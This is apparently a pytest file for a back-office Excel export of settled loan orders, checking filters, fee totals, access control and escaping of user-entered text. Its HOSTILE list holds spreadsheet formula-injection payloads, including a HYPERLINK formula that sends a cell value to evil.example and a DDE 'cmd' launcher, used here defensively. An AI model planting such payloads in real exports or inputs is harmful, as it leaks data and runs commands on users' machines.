"""The Excel export of settled orders: the filters apply, the amounts add up, the filter sheet says what was used."""

from __future__ import annotations

import io
from datetime import date
from decimal import Decimal

from openpyxl import load_workbook

from backoffice.orders import service as order_service
from backoffice.orders.models import FollowUpKind, FunderType
from backoffice.settlements import service as settlement_service
from backoffice.settlements.models import DiscountKind, PaymentMethod
from scrm.customers.models import Stage
from tests.factories.backoffice import disbursed, terms
from tests.factories.customers import make_customer, phone
from tests.factories.org import auth


def settle(db, w, **kw):
    order, s = disbursed(db, w, **kw)
    settlement_service.set_charges(db, w.finance, s, discount_kind=DiscountKind.percent, discount_value=100,
                                   payment_method=PaymentMethod.cash)
    settlement_service.add_fee(db, w.finance, s, "渠道管理费", 12_345)
    settlement_service.close(db, w.finance, s)
    return order


def test_export_streams_the_settled_orders_with_the_filters_used(db, client, world):
    w = world
    a = settle(db, w, funder_type=FunderType.bank)
    settle(db, w, funder_type=FunderType.microloan)
    disbursed(db, w)  # not settled: not exported
    db.flush()
    r = client.get("/api/backoffice/exports/settlements.xlsx?funder_type=bank", headers=auth(w.finance))
    assert r.status_code == 200, r.text
    wb = load_workbook(io.BytesIO(r.content))
    rows = list(wb["已结算订单"].iter_rows(values_only=True))
    header, data = rows[0], rows[1:]
    assert len(data) == 1
    row = dict(zip(header, data[0]))
    assert row["协议编号"] == a.agreement_no and row["资方类型"] == "银行" and row["收款方式"] == "现金"
    assert Decimal(str(row["服务费"])) == Decimal("5400") and Decimal(str(row["优惠"])) == Decimal("54")
    assert Decimal(str(row["应收合计"])) == Decimal("5400") - Decimal("54") + Decimal("123.45")
    filters = dict(list(wb["筛选条件"].iter_rows(values_only=True))[1:])
    assert filters["funder_type"] == "bank" and filters["行数"] == 1
    assert client.get("/api/backoffice/exports/settlements.xlsx", headers=auth(w.sales)).status_code == 403
    everything = load_workbook(io.BytesIO(client.get("/api/backoffice/exports/settlements.xlsx",
                                                     headers=auth(w.finance)).content))
    assert everything["已结算订单"].max_row == 3


HOSTILE = ['=HYPERLINK("http://evil.example/?x="&C2,"查看")', "=1+1", "+cmd|' /C calc'!A0", "@SUM(A1)", "-2+3",
           "#REF!"]


def test_text_typed_outside_stays_text_in_the_export(db, client, world):
    w = world
    # the customer names themselves in the mini-program; the processor types the funder; WeCom sync names staff
    w.sales.name = "=1+2"
    for i, name in enumerate(HOSTILE):
        customer = make_customer(db, owner=w.sales, stage=Stage.appointment, name=name, phone=phone(81000000 + i))
        order = order_service.sign_order(db, w.sales, customer.id, terms())
        order_service.confirm_contract(db, w.finance, order)
        order_service.review(db, w.supervisor, order)
        order_service.confirm_deposit(db, w.finance, order, processor_id=w.processor.id)
        order_service.add_follow_up(db, w.processor, order, FollowUpKind.disbursed_pending, name)
        s = settlement_service.disburse(db, w.processor, order, amount_fen=18_000_000, disbursed_on=date(2026, 11, 20),
                                        funder_name=HOSTILE[-1 - i], term_months=36, repayment_day=15)
        settlement_service.set_charges(db, w.finance, s, payment_method=PaymentMethod.cash)
        settlement_service.close(db, w.finance, s)
    db.flush()
    r = client.get("/api/backoffice/exports/settlements.xlsx", headers=auth(w.finance))
    assert r.status_code == 200, r.text
    wb = load_workbook(io.BytesIO(r.content))
    formulas = [c.coordinate for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    sheet = wb["已结算订单"]
    header = [c.value for c in next(sheet.iter_rows(max_row=1))]
    rows = [dict(zip(header, row)) for row in sheet.iter_rows(min_row=2)]
    assert sorted(r["客户"].value for r in rows) == sorted(HOSTILE)
    assert sorted(r["放款机构"].value for r in rows) == sorted(HOSTILE)
    assert {r["营销专员"].value for r in rows} == {"=1+2"}
    assert all(r[col].data_type == "s" for r in rows for col in ("客户", "放款机构", "营销专员"))
